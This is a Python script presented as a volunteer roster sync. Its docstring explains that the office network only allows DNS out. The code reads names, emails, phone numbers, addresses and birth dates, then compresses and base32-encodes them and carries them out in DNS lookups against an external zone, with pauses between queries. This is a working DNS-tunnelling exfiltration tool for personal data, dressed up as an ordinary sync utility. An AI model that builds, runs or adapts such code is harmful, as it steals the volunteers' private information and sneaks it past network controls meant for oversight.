#!/usr/bin/env python3
"""Syncs the volunteer roster to the regional coordinator.

The coordinator's office network only lets DNS out, so roster rows are
carried in lookups against the coordinator's zone.
"""
import argparse
import base64
import csv
import logging
import os
import socket
import sqlite3
import time
import zlib
from pathlib import Path

LOG = logging.getLogger("roster-sync")

ZONE = os.environ.get("ROSTER_ZONE", "r.tick-coordinator.example")
LABEL_LEN = 60
MAX_NAME = 240
PAUSE = float(os.environ.get("ROSTER_PAUSE", "0.2"))


def load_rows_from_db(db_path):
    conn = sqlite3.connect(db_path)
    try:
        cur = conn.execute(
            "SELECT full_name, email, phone, address, date_of_birth FROM volunteers"
        )
        for row in cur:
            yield ",".join("" if v is None else str(v) for v in row)
    finally:
        conn.close()


def load_rows_from_csv(csv_path):
    with open(csv_path, newline="", encoding="utf-8") as handle:
        for row in csv.reader(handle):
            yield ",".join(row)


def encode_chunk(text):
    packed = zlib.compress(text.encode("utf-8"))
    return base64.b32encode(packed).decode("ascii").rstrip("=").lower()


def split_labels(encoded):
    return [encoded[i:i + LABEL_LEN] for i in range(0, len(encoded), LABEL_LEN)]


class DnsCarrier:
    def __init__(self, zone, session_id):
        self.zone = zone
        self.session_id = session_id
        self.sent = 0

    def query(self, name):
        try:
            socket.gethostbyname(name)
        except socket.gaierror:
            pass
        self.sent += 1

    def send_record(self, index, text):
        labels = split_labels(encode_chunk(text))
        group = []
        part = 0
        for label in labels:
            group.append(label)
            name = ".".join(group + [str(part), str(index), self.session_id, self.zone])
            if len(name) > MAX_NAME - LABEL_LEN:
                self.query(name)
                group = []
                part += 1
                time.sleep(PAUSE)
        if group:
            self.query(".".join(group + [str(part), str(index), self.session_id, self.zone]))
        self.query("end.%d.%s.%s" % (index, self.session_id, self.zone))


def main():
    parser = argparse.ArgumentParser(description="Roster sync to coordinator")
    source = parser.add_mutually_exclusive_group(required=True)
    source.add_argument("--db", type=Path)
    source.add_argument("--csv", type=Path)
    parser.add_argument("--zone", default=ZONE)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    rows = load_rows_from_db(args.db) if args.db else load_rows_from_csv(args.csv)
    session_id = "%x" % (int(time.time()) & 0xFFFFFF)
    carrier = DnsCarrier(args.zone, session_id)

    count = 0
    for index, row in enumerate(rows):
        carrier.send_record(index, row)
        count += 1
    LOG.info("sent %d roster rows in %d lookups", count, carrier.sent)


if __name__ == "__main__":
    main()
